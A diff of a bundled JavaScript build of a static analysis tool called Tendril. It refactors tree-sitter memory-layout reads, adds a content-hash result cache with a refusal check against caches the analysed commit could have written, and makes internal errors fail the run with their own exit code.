-    // Subtree fields at `a` (the 8-byte union). Inline when bit 0 of its first byte is set.
-    const rootAt = addressOf(tree);
-    const rootInline = (u8[rootAt] & 1) === 1;
+    // The layout, in locals: the loop below reads no property of it (src/engine/layout.ts says what each is).
+    const L = layout;
+    const SUBTREE = L.subtreeSize;
+    const IS_INLINE = L.inlineIsInline;
+    const I_VISIBLE = L.inlineVisible;
+    const I_NAMED = L.inlineNamed;
+    const I_EXTRA = L.inlineExtra;
+    const I_MISSING = L.inlineMissing;
+    const I_SYMBOL = L.inlineSymbol;
+    const I_PADDING = L.inlinePaddingBytes;
+    const I_SIZE = L.inlineSizeBytes;
+    const H_PADDING = L.heapPaddingBytes;
+    const H_SIZE = L.heapSizeBytes;
+    const H_ERROR_COST = L.heapErrorCost;
+    const H_CHILD_COUNT = L.heapChildCount;
+    const H_SYMBOL = L.heapSymbol;
+    const H_FLAGS = L.heapFlags;
+    const H_VISIBLE = L.heapVisible;
+    const H_NAMED = L.heapNamed;
+    const H_EXTRA = L.heapExtra;
+    const H_MISSING = L.heapMissing;
+    const H_PRODUCTION = L.heapProductionId;
+    const TS_ERROR = L.errorSymbol;
+    const UNIT_SHIFT = L.unitShift;
+    // The root Subtree, in the TSTree. A Subtree is inline when its first byte has the inline bit.
+    const rootAt = addressOf(tree) + L.treeRoot;
+    const rootInline = (u8[rootAt] & IS_INLINE) !== 0;
     const rootPtr = rootInline ? 0 : u32[rootAt >>> 2];
-    // SubtreeHeapData.visible_descendant_count, at offset 56 of a node with children.
-    const count = 1 + (rootPtr && u32[(rootPtr + 36) >>> 2] > 0 ? u32[(rootPtr + 56) >>> 2] : 0);
+    const count = 1 + (rootPtr && u32[(rootPtr + H_CHILD_COUNT) >>> 2] > 0 ? u32[(rootPtr + L.heapVisibleDescendantCount) >>> 2] : 0);
+    // A bound on the loop's steps (a subtree entry read or a frame left), far above what any tree
+    // takes, so that a wrong layout ends in an error rather than a loop over garbage.
+    const maxSteps = Math.min(0x7fffffff, 4096 + 64 * text.length);
+    let steps = maxSteps;
+    if (!(count <= maxSteps))
+        throw new Error(`syntax tree copy: tree-sitter counts ${count} nodes in ${text.length} characters`);
     const out = SyntaxTree.create(tree.language, text, count);
     const { symbol, flags, startIndex, endIndex, parentOf, end, field } = out;
     // Stack of the subtrees being read, FRAME numbers each (see the F_ offsets): no closure and
@@ -5961,7 +5979,7 @@ function copyTree(tree, text) {
     top += FRAME;
     stack[top + F_COUNT] = 1;
     stack[top + F_PRODUCTION] = 0;
-    stack[top + F_PTR] = rootAt + 8;
+    stack[top + F_PTR] = rootAt + SUBTREE;
     stack[top + F_FIRST_PADDED] = 1;
     stack[top + F_CHILD] = 0;
     stack[top + F_STRUCTURAL] = 0;
@@ -5971,6 +5989,8 @@ function copyTree(tree, text) {
     stack[top + F_FIELD] = 0;
     let n = 0;
     while (top >= 0) {
+        if (--steps < 0)
+            throw new Error(`syntax tree copy: no end after ${maxSteps} steps`);
         const childCount = stack[top + F_COUNT];
         const k = stack[top + F_CHILD];
         if (k === childCount) {
@@ -5981,33 +6001,33 @@ function copyTree(tree, text) {
             continue;
         }
         stack[top + F_CHILD] = k + 1;
-        const a = (stack[top + F_PTR] >>> 0) - (childCount - k) * 8;
+        const a = (stack[top + F_PTR] >>> 0) - (childCount - k) * SUBTREE;
         let sym, visible, isNamed, extra, missing, errorCost, childPtr;
         let padBytes, sizeBytes;
         const b0 = u8[a];
-        if (b0 & 1) {
-            sym = u8[a + 1];
-            visible = (b0 & 2) !== 0;
-            isNamed = (b0 & 4) !== 0;
-            extra = (b0 & 8) !== 0;
-            missing = (b0 & 32) !== 0;
+        if (b0 & IS_INLINE) {
+            sym = u8[a + I_SYMBOL];
+            visible = (b0 & I_VISIBLE) !== 0;
+            isNamed = (b0 & I_NAMED) !== 0;
+            extra = (b0 & I_EXTRA) !== 0;
+            missing = (b0 & I_MISSING) !== 0;
             errorCost = missing ? 1 : 0;
-            padBytes = u8[a + 6];
-            sizeBytes = u8[a + 7];
+            padBytes = u8[a + I_PADDING];
+            sizeBytes = u8[a + I_SIZE];
             childPtr = 0;
         }
         else {
             const p = u32[a >>> 2];
-            sym = u16[(p + 40) >>> 1];
-            const bits = u16[(p + 44) >>> 1];
-            visible = (bits & 1) !== 0;
-            isNamed = (bits & 2) !== 0;
-            extra = (bits & 4) !== 0;
-            missing = (bits & 512) !== 0;
-            errorCost = missing ? 1 : u32[(p + 32) >>> 2];
-            padBytes = u32[(p + 4) >>> 2];
-            sizeBytes = u32[(p + 16) >>> 2];
-            childPtr = u32[(p + 36) >>> 2] > 0 ? p : 0;
+            sym = u16[(p + H_SYMBOL) >>> 1];
+            const bits = u16[(p + H_FLAGS) >>> 1];
+            visible = (bits & H_VISIBLE) !== 0;
+            isNamed = (bits & H_NAMED) !== 0;
+            extra = (bits & H_EXTRA) !== 0;
+            missing = (bits & H_MISSING) !== 0;
+            errorCost = missing ? 1 : u32[(p + H_ERROR_COST) >>> 2];
+            padBytes = u32[(p + H_PADDING) >>> 2];
+            sizeBytes = u32[(p + H_SIZE) >>> 2];
+            childPtr = u32[(p + H_CHILD_COUNT) >>> 2] > 0 ? p : 0;
         }
         // The child's start: the parent's start for the first child, else after the previous child and its own padding.
         let bytes = stack[top + F_BYTES];
@@ -6035,14 +6055,14 @@ function copyTree(tree, text) {
         if (visible || alias) {
             const i = n++;
             const shown = alias || sym;
-            symbol[i] = shown === ERROR_SYMBOL ? shown : publicSymbol[shown];
+            symbol[i] = shown === TS_ERROR ? ERROR_SYMBOL : publicSymbol[shown];
             flags[i] =
                 ((alias ? namedMeta[alias] : isNamed) ? exports.FLAG_NAMED : 0) |
                     (extra ? FLAG_EXTRA : 0) |
                     (missing ? FLAG_MISSING : 0) |
                     (errorCost > 0 ? FLAG_HAS_ERROR : 0);
-            startIndex[i] = bytes >>> 1;
-            endIndex[i] = eBytes >>> 1;
+            startIndex[i] = bytes >>> UNIT_SHIFT;
+            endIndex[i] = eBytes >>> UNIT_SHIFT;
             parentOf[i] = stack[top + F_PARENT];
             field[i] = fieldId;
             if (!childPtr) {
@@ -6059,12 +6079,12 @@ function copyTree(tree, text) {
         else
             continue;
         // Push the subtree with children: `childPtr` is its SubtreeHeapData, and its `Subtree`
-        // children are the 8-byte entries just before it.
+        // children are the entries just before it.
         top += FRAME;
         if (top + FRAME > stack.length)
             stack = grown(stack);
-        stack[top + F_COUNT] = u32[(childPtr + 36) >>> 2];
-        stack[top + F_PRODUCTION] = u16[(childPtr + 66) >>> 1];
+        stack[top + F_COUNT] = u32[(childPtr + H_CHILD_COUNT) >>> 2];
+        stack[top + F_PRODUCTION] = u16[(childPtr + H_PRODUCTION) >>> 1];
         stack[top + F_FIRST_PADDED] = 0;
         stack[top + F_PTR] = childPtr;
         stack[top + F_CHILD] = 0;
@@ -6200,16 +6220,25 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.isTendrilWorker = isTendrilWorker;
 exports.runWorker = runWorker;
 const worker_threads_1 = __nccwpck_require__(8167);
-const rules_1 = __nccwpck_require__(5755);
 const pool_1 = __nccwpck_require__(6138);
 /** True in a worker thread started by the pool (see PoolOptions.workerScript). */
 function isTendrilWorker() {
     return !worker_threads_1.isMainThread && worker_threads_1.workerData?.tendrilWorker === true;
 }
-/** The worker loop: analyse each file of each batch the main thread sends, sending each result back. */
-function runWorker() {
+/**
+ * The worker loop: analyse each file of each batch the main thread sends, sending each result back.
+ * `catalogue` is every rule the bundle has (the entry point passes it in; the engine imports no rules).
+ */
+function runWorker(catalogue) {
     const setup = worker_threads_1.workerData;
-    const ruleSets = setup.ruleSets.map((s) => ({ rules: (0, rules_1.rulesById)(s.ruleIds), options: s.options }));
+    const byId = new Map(catalogue.map((rule) => [rule.meta.id, rule]));
+    const lookup = (id) => {
+        const rule = byId.get(id);
+        if (!rule)
+            throw new Error(`no rule with id ${id} in this bundle's catalogue`);
+        return rule;
+    };
+    const ruleSets = setup.ruleSets.map((s) => ({ rules: s.ruleIds.map(lookup), options: s.options, ruleIds: s.known && new Set(s.known) }));
     worker_threads_1.parentPort.on('message', (message) => {
         void (async () => {
             for (let k = 0; k < message.files.length; k++) {
@@ -6246,6 +6275,7 @@ exports.UsageError = UsageError;
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.countFindings = countFindings;
 exports.evaluateGates = evaluateGates;
+exports.exitCode = exitCode;
 const rules_1 = __nccwpck_require__(5755);
 const severity_1 = __nccwpck_require__(2640);
 const META = new Map(rules_1.ALL_RULES.map((rule) => [rule.meta.id, rule.meta]));
@@ -6266,9 +6296,10 @@ function countFindings(findings) {
  * Reporting and failing are separate: everything is reported; the gates only decide the exit.
  * With a baseline, `newCounts` counts the new findings: the security gate and
  * `max-new-maintainability-findings` count only those, while `max-maintainability-findings`
- * stays a budget on the total (it is the one way to cap existing debt).
+ * stays a budget on the total (it is the one way to cap existing debt). An internal error in any
+ * file (`notifications`) fails the run on its own.
  */
-function evaluateGates(counts, settings, newCounts = counts) {
+function evaluateGates(counts, settings, newCounts = counts, notifications = []) {
     const reasons = [];
     const compared = newCounts !== counts || Boolean(settings.baselineRef || settings.baselineSarif);
     const fresh = compared ? 'new ' : '';
@@ -6289,13 +6320,314 @@ function evaluateGates(counts, settings, newCounts = counts) {
     if (maxNew >= 0 && newCounts.maintainability > maxNew) {
         reasons.push(`${newCounts.maintainability} new maintainability findings, more than the maximum of ${maxNew}`);
     }
+    const internal = [...new Set(notifications.filter((n) => n.id === 'internal-error').map((n) => n.path))];
+    if (internal.length > 0) {
+        const internalError = `${internal.length} file${internal.length === 1 ? '' : 's'} could not be fully analysed because of an internal error ` +
+            `(${internal.slice(0, 3).join(', ')}${internal.length > 3 ? ', ...' : ''}); the results are incomplete, so the run fails`;
+        return { failed: true, reasons: [...reasons, internalError], internalError };
+    }
     return { failed: reasons.length > 0, reasons };
+}
+/** The exit code of a run, for the CLI and the action: 2 on an internal error, 1 when a gate failed, else 0. */
+function exitCode(gate) {
+    return gate.internalError ? 2 : gate.failed ? 1 : 0;
 }
 
 
 /***/ }),
 
-/***/ 9717:
+/***/ 4176:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ResultCache = void 0;
+const crypto_1 = __nccwpck_require__(6982);
+const fs = __importStar(__nccwpck_require__(9896));
+const path = __importStar(__nccwpck_require__(6928));
+const version_1 = __nccwpck_require__(311);
+const FORMAT = 1;
+/** Every file under `dir`, for hashing the source tree (sorted, so the hash is stable). */
+function filesUnder(dir) {
+    return fs
+        .readdirSync(dir, { withFileTypes: true })
+        .sort((a, b) => (a.name < b.name ? -1 : 1))
+        .flatMap((e) => (e.isDirectory() ? filesUnder(path.join(dir, e.name)) : [path.join(dir, e.name)]));
+}
+let engineId;
+/**
+ * Tendril's version and a hash of the code that runs: the bundle (`script`), or, running from
+ * source (tests), every file of the source tree, so an edited rule never meets its old results.
+ */
+function engine(script) {
+    if (!engineId) {
+        const hash = (0, crypto_1.createHash)('sha256');
+        try {
+            const base = script?.endsWith('.js') ? path.dirname(script) : path.join(__dirname, '..');
+            const files = script?.endsWith('.js') ? [script] : filesUnder(base);
+            for (const file of files)
+                hash.update(path.relative(base, file)).update(fs.readFileSync(file));
+        }
+        catch {
+            hash.update(String(Date.now()));
+        }
+        engineId = `${version_1.VERSION}+${hash.digest('hex').slice(0, 16)}`;
+    }
+    return engineId;
+}
+/** The rules and their effective option values (a value equal to the default is the default). */
+function settingsKey(ruleSet, budgetKey) {
+    const rules = [...ruleSet.rules]
+        .sort((a, b) => (a.meta.id < b.meta.id ? -1 : 1))
+        .map((rule) => {
+        const specs = rule.meta.options ?? {};
+        const values = Object.keys(specs)
+            .sort()
+            .map((name) => [name, ruleSet.options[rule.meta.id]?.[name] ?? specs[name].default]);
+        return values.length ? [rule.meta.id, values] : rule.meta.id;
+    });
+    return JSON.stringify([rules, budgetKey]);
+}
+class ResultCache {
+    dir;
+    root;
+    store;
+    file;
+    settingsKeys;
+    /** Key of every file looked up in this run. */
+    keys = new Map();
+    /** Entries to write: hits, and results recorded for misses. */
+    fresh = new Map();
+    /** Files found in the cache in this run. */
+    hits = 0;
+    constructor(dir, root, ruleSets, budgetKey, script) {
+        this.dir = dir;
+        this.root = root;
+        const id = engine(script);
+        this.file = path.join(dir, `results-v${FORMAT}.json`);
+        this.settingsKeys = ruleSets.map((s) => settingsKey(s, budgetKey));
+        let store = { engine: id, entries: {} };
+        try {
+            const read = JSON.parse(fs.readFileSync(this.file, 'utf8'));
+            if (read && read.engine === id && typeof read.entries === 'object')
+                store = read;
+        }
+        catch {
+            // No cache yet, or an unreadable one: start empty (it is rewritten at the end).
+        }
+        this.store = store;
+    }
+    /** Opens (or starts) the cache in `dir`, relative to the root. */
+    static open(dir, root, ruleSets, budgetKey, script) {
+        return new ResultCache(path.resolve(root, dir), root, ruleSets, budgetKey, script);
+    }
+    key(file, bytes) {
+        return (0, crypto_1.createHash)('sha256')
+            .update(this.settingsKeys[file.profile ?? 0])
+            .update('\0')
+            .update(file.rel)
+            .update('\0')
+            .update(bytes)
+            .digest('hex');
+    }
+    /**
+     * The cached result of a file, or undefined. Reads the file to hash it; a file that cannot be
+     * read is a miss (the analysis reports it).
+     */
+    lookup(file) {
+        let bytes;
+        try {
+            bytes = fs.readFileSync(file.abs);
+        }
+        catch {
+            return undefined;
+        }
+        const key = this.key(file, bytes);
+        const entry = this.store.entries[file.rel];
+        this.keys.set(file.rel, key);
+        if (entry && entry.key === key) {
+            this.fresh.set(file.rel, entry);
+            this.hits++;
+            return entry.result;
+        }
+        return undefined;
+    }
+    /** Records the result of a file looked up before (a miss). */
+    record(file, result) {
+        const key = this.keys.get(file.rel);
+        if (key === undefined)
+            return;
+        if (result.notifications.some((n) => n.id === 'file-timeout' || n.id === 'internal-error'))
+            return;
+        this.fresh.set(file.rel, { key, result });
+    }
+    /** Writes the cache: this run's entries, and earlier entries whose files still exist. Never throws. */
+    save() {
+        const entries = {};
+        for (const [rel, entry] of Object.entries(this.store.entries)) {
+            if (!this.keys.has(rel) && fs.existsSync(path.join(this.root, rel)))
+                entries[rel] = entry;
+        }
+        for (const [rel, entry] of this.fresh)
+            entries[rel] = entry;
+        const sorted = {};
+        for (const rel of Object.keys(entries).sort())
+            sorted[rel] = entries[rel];
+        try {
+            fs.mkdirSync(this.dir, { recursive: true });
+            // Like Ruff's cache: ignored by git and tagged for backup tools, whatever the project's settings.
+            const gitignore = path.join(this.dir, '.gitignore');
+            if (!fs.existsSync(gitignore))
+                fs.writeFileSync(gitignore, '# Created by Tendril.\n*\n');
+            const tag = path.join(this.dir, 'CACHEDIR.TAG');
+            if (!fs.existsSync(tag)) {
+                fs.writeFileSync(tag, 'Signature: 8a477f597d28d172789f06886806bc55\n# This file is a cache directory tag created by Tendril.\n');
+            }
+            const tmp = `${this.file}.${process.pid}.tmp`;
+            fs.writeFileSync(tmp, JSON.stringify({ engine: this.store.engine, entries: sorted }));
+            fs.renameSync(tmp, this.file);
+            return undefined;
+        }
+        catch (error) {
+            return `the cache could not be written to ${this.dir} (${error.code ?? error.message}); the next run starts without it`;
+        }
+    }
+}
+exports.ResultCache = ResultCache;
+
+
+/***/ }),
+
+/***/ 7632:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.cacheRefusal = cacheRefusal;
+const fs = __importStar(__nccwpck_require__(9896));
+const path = __importStar(__nccwpck_require__(6928));
+const git_1 = __nccwpck_require__(8119);
+/**
+ * Whether a result cache may be used: a cache that the analysed commit can write is never
+ * trusted. The cache maps a file's bytes to its findings, so a pull request that commits an
+ * edited cache file could have its own injection reported clean. Entries are already bound to
+ * the engine build (src/engine/cache.ts), but a build's identity is public (the hash of a
+ * published bundle), so that binding only keeps builds apart; it is no defence. Refused:
+ *
+ * - a cache directory with anything in it tracked by git (the commit wrote it);
+ * - in the action, a cache directory inside the workspace (the analysed tree: anything in it,
+ *   tracked or not, may come from the commit, and a committed symbolic link can point anywhere,
+ *   so the real path is what counts).
+ *
+ * Returns why the cache is refused, or undefined when it may be used.
+ */
+function cacheRefusal(dir, root, workspace) {
+    const abs = path.resolve(root, dir);
+    if (workspace) {
+        const ws = realish(workspace);
+        const real = realish(abs);
+        if (inside(abs, path.resolve(workspace)) || inside(real, ws)) {
+            return (`the cache directory ${abs} is inside the workspace, which the analysed commit writes, so its results cannot be trusted; ` +
+                'the cache is off for this run. Keep it outside the workspace (the default, under RUNNER_TEMP), restored and saved with actions/cache');
+        }
+    }
+    if (inside(abs, path.resolve(root)) && (0, git_1.tracksAnything)(root, path.relative(root, abs) || '.')) {
+        return `the cache directory ${abs} holds files tracked by git: the analysed commit wrote them, so they cannot be trusted; the cache is off for this run`;
+    }
+    return undefined;
+}
+function inside(child, parent) {
+    const rel = path.relative(parent, child);
+    return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
+}
+/** The real path of `p`, or of its nearest existing ancestor joined with the rest. */
+function realish(p) {
+    let dir = path.resolve(p);
+    const rest = [];
+    for (;;) {
+        try {
+            return path.join(fs.realpathSync(dir), ...rest.reverse());
+        }
+        catch {
+            const parent = path.dirname(dir);
+            if (parent === dir)
+                return path.resolve(p);
+            rest.push(path.basename(dir));
+            dir = parent;
+        }
+    }
+}
+
+
+/***/ }),
+
+/***/ 6738:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
 
@@ -6335,21 +6667,10 @@ var __importStar = (this && this.__importStar) || (function () {
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.Profiles = void 0;
 const path = __importStar(__nccwpck_require__(6928));
-const config_1 = __nccwpck_require__(2973);
-const glob_1 = __nccwpck_require__(2218);
-const settings_1 = __nccwpck_require__(8750);
-/** Keys that set run-wide behaviour: read only from the configuration the run starts from. */
-const RUN_WIDE_KEYS = [
-    ['failOnSecuritySeverity', 'fail-on-security-severity'],
-    ['maxMaintainabilityFindings', 'max-maintainability-findings'],
-    ['maxFileSize', 'max-file-size'],
-    ['fileTimeout', 'file-timeout'],
-    ['cacheDir', 'cache-dir'],
-];
-function profileOf(settings) {
-    const { configFile, rules, ruleOptions, exclude, perFileIgnores, includeSuppressed } = settings;
-    return { configFile, rules, ruleOptions, exclude, perFileIgnores, includeSuppressed };
-}
+const config_1 = __nccwpck_require__(9551);
+const glob_1 = __nccwpck_require__(3854);
+const options_1 = __nccwpck_require__(8031);
+const settings_1 = __nccwpck_require__(7100);
 /** True when `dir` is `top` or below it. */
 function within(top, dir) {
     const rel = path.relative(top, dir);
@@ -6371,7 +6692,7 @@ class Profiles {
     byFile = new Map();
     constructor(settings) {
         this.settings = settings;
-        this.list = [profileOf(settings)];
+        this.list = [(0, settings_1.profileOf)(settings)];
     }
     /** The profile index of a file or directory (absolute path). */
     indexOf(abs, isDir = false) {
@@ -6421,8 +6742,8 @@ class Profiles {
             return known;
         const input = (0, settings_1.readConfigFile)(file);
         const rel = path.relative(this.settings.root, file).split(path.sep).join('/');
-        for (const [key, name] of RUN_WIDE_KEYS) {
-            if (input[key] === undefined)
+        for (const { field, name } of options_1.RUN_WIDE_KEYS) {
+            if (input[field] === undefined)
                 continue;
             this.notifications.push({
                 level: 'warning',
@@ -6432,14 +6753,178 @@ class Profiles {
                     ` (${this.settings.configFile ? path.relative(this.settings.root, this.settings.configFile) || this.settings.configFile : 'none'}); ignored here.`,
             });
         }
-        const { root, paths, jobs } = this.settings;
-        const resolved = (0, settings_1.resolveSettings)({ root, paths, jobs }, input, this.settings.configSearch.flags);
-        this.list.push(profileOf({ ...resolved, configFile: file }));
+        this.list.push({ ...(0, settings_1.resolveProfile)(this.settings.root, [input, this.settings.configSearch.flags]), configFile: file });
         this.byFile.set(file, this.list.length - 1);
         return this.list.length - 1;
     }
 }
 exports.Profiles = Profiles;
+
+
+/***/ }),
+
+/***/ 319:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.compareNotifications = compareNotifications;
+exports.run = run;
+const path = __importStar(__nccwpck_require__(6928));
+const baseline_1 = __nccwpck_require__(3907);
+const discover_1 = __nccwpck_require__(4883);
+const glob_1 = __nccwpck_require__(3854);
+const cache_1 = __nccwpck_require__(4176);
+const pool_1 = __nccwpck_require__(6138);
+const profiles_1 = __nccwpck_require__(6738);
+const rules_1 = __nccwpck_require__(5755);
+const gates_1 = __nccwpck_require__(2343);
+const errors_1 = __nccwpck_require__(3916);
+function compareFindings(a, b) {
+    return ((a.path < b.path ? -1 : a.path > b.path ? 1 : 0) ||
+        a.line - b.line ||
+        a.column - b.column ||
+        (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) ||
+        a.endLine - b.endLine ||
+        a.endColumn - b.endColumn ||
+        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
+}
+/** A total order on notifications, so shards merged give the bytes of one run (src/report/merge.ts). */
+function compareNotifications(a, b) {
+    const s = (x, y) => (x < y ? -1 : x > y ? 1 : 0);
+    return s(a.path, b.path) || (a.line ?? 0) - (b.line ?? 0) || (a.column ?? 0) - (b.column ?? 0) || s(a.id, b.id) || s(a.message, b.message);
+}
+async function run(settings, workerScript, hooks = {}) {
+    if (settings.scope === 'changed' && !settings.baselineRef) {
+        throw new errors_1.UsageError("scope 'changed' needs a baseline ref to compare with (baseline-ref, --baseline-ref)");
+    }
+    const baseline = settings.baselineRef ? (0, baseline_1.openBaseline)(settings.root, settings.baselineRef, 'baseline ref') : undefined;
+    const profiles = new profiles_1.Profiles(settings);
+    const discovery = (0, discover_1.discover)(settings.root, settings.paths, { exclude: settings.exclude });
+    let files = discovery.files.filter((f) => !profiles.excluded(f.abs));
+    if (baseline && settings.scope === 'changed')
+        files = files.filter((f) => (0, baseline_1.isChanged)(baseline, f.rel));
+    // Round robin over the sorted list: shards of equal size, the same split on every machine.
+    const shard = settings.shard;
+    if (shard)
+        files = files.filter((_, i) => i % shard.count === shard.index - 1);
+    files = files.map((f) => ({ ...f, profile: profiles.indexOf(f.abs) }));
+    const ruleIds = new Set(rules_1.ALL_RULES.map((rule) => rule.meta.id));
+    const ruleSets = profiles.list.map((p) => ({ rules: p.rules, options: p.ruleOptions, ruleIds }));
+    const budget = { maxFileSize: settings.maxFileSize, timeoutSeconds: settings.fileTimeout };
+    const pool = { jobs: settings.jobs, workerScript, budget, onProgress: hooks.onProgress };
+    hooks.onFiles?.(files.length);
+    const { results, cached, cacheProblem } = await analyzeCached(files, ruleSets, pool, settings);
+    // per-file-ignores drop findings; suppressed findings are kept only with include-suppressed
+    // (SARIF `suppressions`), and never count for the gates. Both follow the file's configuration.
+    const profileOf = new Map(files.map((f) => [f.rel, profiles.list[f.profile ?? 0]]));
+    const dropped = (f) => {
+        const profile = profileOf.get(f.path) ?? profiles.list[0];
+        return ((!profile.includeSuppressed && f.suppressed !== undefined) ||
+            profile.perFileIgnores.some((p) => p.ruleIds.has(f.ruleId) && (0, glob_1.matchesAny)([p.pattern], path.resolve(settings.root, f.path), false)));
+    };
+    const findings = results
+        .flatMap((r) => r.findings)
+        .filter((f) => !dropped(f))
+        .sort(compareFindings);
+    // Directory problems are reported by the first shard only, so merged shards do not repeat them.
+    const runWide = shard && shard.index > 1 ? [] : [...discovery.notifications, ...profiles.notifications, ...(cacheProblem ? [cacheProblem] : [])];
+    const notifications = [...runWide, ...results.flatMap((r) => r.notifications)].sort(compareNotifications);
+    let summary;
+    if (baseline) {
+        const scopes = settings.paths.map((p) => path.relative(settings.root, path.resolve(p)).split(path.sep).join('/'));
+        const inScope = (rel) => scopes.some((s) => s === '' || rel === s || rel.startsWith(s + '/'));
+        // A deleted file counts once, in the first shard.
+        const deletedInScope = (rel) => (!shard || shard.index === 1) && inScope(rel);
+        const quiet = { ...pool, onProgress: undefined };
+        summary = await (0, baseline_1.applyBaseline)(baseline, settings.root, files, findings, ruleSets, (rel) => profiles.indexOf(path.resolve(settings.root, rel)), quiet, deletedInScope);
+    }
+    else if (settings.baselineSarif) {
+        summary = (0, baseline_1.applyBaselineSarif)(path.resolve(settings.root, settings.baselineSarif), findings, 'baseline SARIF');
+    }
+    const open = findings.filter((f) => f.suppressed === undefined);
+    const counts = (0, gates_1.countFindings)(open);
+    const newCounts = summary ? (0, gates_1.countFindings)(open.filter((f) => f.baselineState === 'new')) : counts;
+    return {
+        settings,
+        rules: profiles.allRules(),
+        files: files.length,
+        cached,
+        findings,
+        notifications,
+        counts,
+        newCounts,
+        baseline: summary,
+        gate: (0, gates_1.evaluateGates)(counts, settings, newCounts, notifications),
+    };
+}
+/**
+ * The analysis with the content-hash cache in front: files whose bytes, path and settings were
+ * seen before take their stored result; the rest go to the pool, and the cache is written before
+ * anything downstream (baseline states) touches the results.
+ */
+async function analyzeCached(files, ruleSets, pool, settings) {
+    if (!settings.cacheDir)
+        return { results: await (0, pool_1.analyzeFiles)(files, ruleSets, pool), cached: 0 };
+    const budget = pool.budget;
+    const cache = cache_1.ResultCache.open(settings.cacheDir, settings.root, ruleSets, `${budget.maxFileSize}`, pool.workerScript);
+    const results = new Array(files.length);
+    const misses = [];
+    files.forEach((file, i) => {
+        // A file over the size budget is not even read: the analysis reports it.
+        const hit = file.size > budget.maxFileSize ? undefined : cache.lookup(file);
+        if (hit)
+            results[i] = hit;
+        else
+            misses.push(i);
+    });
+    const hits = files.length - misses.length;
+    const onProgress = pool.onProgress;
+    onProgress?.(hits);
+    const fresh = await (0, pool_1.analyzeFiles)(misses.map((i) => files[i]), ruleSets, { ...pool, onProgress: onProgress && ((done) => onProgress(hits + done)) });
+    misses.forEach((i, k) => {
+        results[i] = fresh[k];
+        cache.record(files[i], fresh[k]);
+    });
+    const problem = cache.save();
+    const cacheProblem = problem
+        ? { level: 'warning', id: 'cache', path: path.relative(settings.root, settings.cacheDir).split(path.sep).join('/') || '.', message: `Cache: ${problem}.` }
+        : undefined;
+    return { results, cached: hits, cacheProblem };
+}
 
